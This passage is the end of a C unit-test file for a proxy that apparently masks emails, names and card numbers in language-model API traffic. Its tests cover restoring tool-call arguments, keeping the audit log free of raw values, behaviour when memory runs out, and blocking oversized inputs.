        STR_ARG(token), STR_ARG(token), STR_ARG(token), STR_ARG(token),
        STR_ARG(token));
    sc = scene_of(eng, ask, str_of(text));
    sc.steps[2] = (struct step){DIR_RECV, STR("")};
    sc.count = 3;
    scene_play(&sc, 0, 9, 0, &p);
    out = buf_str(&p.out[DIR_RECV]);
    CHECK(str_find(out, STR("\"text\":\"a@b.example.\"}\n")) < out.len);
    CHECK(str_find(out, STR("\"delta\":\"{\\\"to\\\":\\\"a@b.example\\\"}\"")) <
          out.len);
    CHECK(
        str_find(out,
                 STR("\"arguments\":\"{\\\"to\\\":\\\"a@b.example\\\"}\"}\n")) <
        out.len);
    CHECK(str_find(out, STR("\"text\":\"a@b.example.\"}]}")) < out.len);
    CHECK(str_find(out, STR("\"name\":\"send_mail\",\"arguments\":\"{\\\"to\\\""
                            ":\\\"a@b.example\\\"}\"}")) < out.len);
    CHECK(str_find(out, STR("\"name\":\"no\",\"arguments\":\"{\\\"to\\\":\\\""
                            "EMAIL_")) < out.len);
    CHECK(scene_every_split(&sc, &p));
    played_free(&p);
}

/* No value in the audit, and once what the key is. */
static void test_audit(void)
{
    char path[64], text[1 << 16];
    struct engine *e;
    struct buf y;
    ssize_t n;
    int fd;

    snprintf(path, sizeof(path), "/tmp/sp-pseudonym-audit-%d", (int)getpid());
    e = scene_engine(other_policy, path);
    y = mask(e, STR("to a@b.example, Jane Doe"));
    buf_free(&y);
    y = mask(e, STR("to a@b.example, Jane Doe"));
    buf_free(&y);
    engine_close(e);
    fd = open(path, O_RDONLY);
    n = read(fd, text, sizeof(text) - 1);
    close(fd);
    unlink(path);
    if (!CHECK(n > 0))
        return;
    text[n] = '\0';
    CHECK(strstr(text, "a@b") == NULL && strstr(text, "Jane") == NULL);
    CHECK(strstr(text, "\"action\":\"pseudonymize\"") != NULL);
    CHECK(strstr(text, "no key file") != NULL);
    CHECK(strstr(strstr(text, "no key file") + 1, "no key file") == NULL);
}

/* Out of memory nothing leaves, or it leaves as a pseudonym. */
static void test_no_memory(void)
{
    struct str ask =
        ask_with(ASK_BEFORE "\"a@b.example\"}],\"card\":4111111111111111}");
    struct engine *e = scene_engine(policy, NULL);
    struct str token = token_of("EMAIL", "a@b.example");
    char text[512];
    struct str answer;

    snprintf(text, sizeof(text), "%.*s", STR_ARG(token));
    answer = stream_of(str_of(text), 7);
    for (size_t n = 1;; n++) {
        struct scene sc = scene_of(e, ask, answer);
        struct played p;
        struct str out;

        failmalloc_at(n, FAIL_ONE);
        scene_play(&sc, 0, 9, 0, &p);
        if (!failmalloc_off()) {
            CHECK(p.out[DIR_SEND].len > 0);
            played_free(&p);
            break;
        }
        out = buf_str(&p.out[DIR_SEND]);
        CHECK(str_find(out, STR("a@b.example")) == out.len);
        CHECK(str_find(out, STR("4111")) == out.len);
        played_free(&p);
    }
    engine_close(e);
}

/*
 * Values that begin alike, and a text that begins so at each of its places: to
 * look for each value at each place is more work than is done. The request is
 * refused then, for a value of the text may be known and in its place.
 */
static void test_too_much_to_find(void)
{
    struct engine *e = scene_engine(policy, NULL);
    static char text[60000];
    static const char said[] =
        "{\"model\":\"m\",\"messages\":[{\"role\":\"assistant\",\"content\":";
    struct scene sc;
    struct played p;
    struct buf out;
    size_t n;

    if (!CHECK(e != NULL))
        return;
    for (int k = 0; k < 4; k++) {
        n = 0;
        for (int i = 0; i < 2000; i++)
            n += (size_t)snprintf(text + n, sizeof(text) - n, "aaaaaa%d@b.de ",
                                  2000 * k + i);
        out = mask(e, (struct str){text, n});
        CHECK(str_find(buf_str(&out), STR("aaaaaa")) == out.len);
        buf_free(&out);
    }
    memset(text, 'a', sizeof(text));
    for (int far = 0; far <= 1; far++) {
        n = far ? sizeof(text) : 60;
        sc = scene_of(e, ask_with(format(said, (struct str){text, n}, "}]}")),
                      STR(""));
        scene_play(&sc, 0, 9, 0, &p);
        CHECK_INT(p.state, far ? CONN_BLOCKED : CONN_OPEN);
        CHECK_INT(p.out[DIR_SEND].len == 0, far);
        CHECK_INT(str_find(str_of(p.why), STR("rule")) < strlen(p.why), far);
        played_free(&p);
    }
    engine_close(e);
}

int main(void)
{
    setup();
    RUN(test_known_texts);
    RUN(test_any_text);
    RUN(test_name_of_that_form);
    RUN(test_one_is_not_in_another);
    RUN(test_stable_and_restored_elsewhere);
    RUN(test_never_given_out);
    RUN(test_key_file_must_be_private);
    RUN(test_monitor_changes_nothing);
    RUN(test_addresses);
    RUN(test_address_restored);
    RUN(test_output_rules_first);
    RUN(test_nothing_behind_a_block);
    RUN(test_every_split);
    RUN(test_what_the_model_said_again);
    RUN(test_arguments);
    RUN(test_blocks);
    RUN(test_escapes);
    RUN(test_numbers);
    RUN(test_no_number_is_let_through);
    RUN(test_log_probabilities_are_blanked);
    RUN(test_closing_events);
    RUN(test_audit);
    RUN(test_too_much_to_find);
    RUN(test_no_memory);
    engine_close(eng);
    engine_close(strict);
    unlink(key_path);
    return check_done();
}
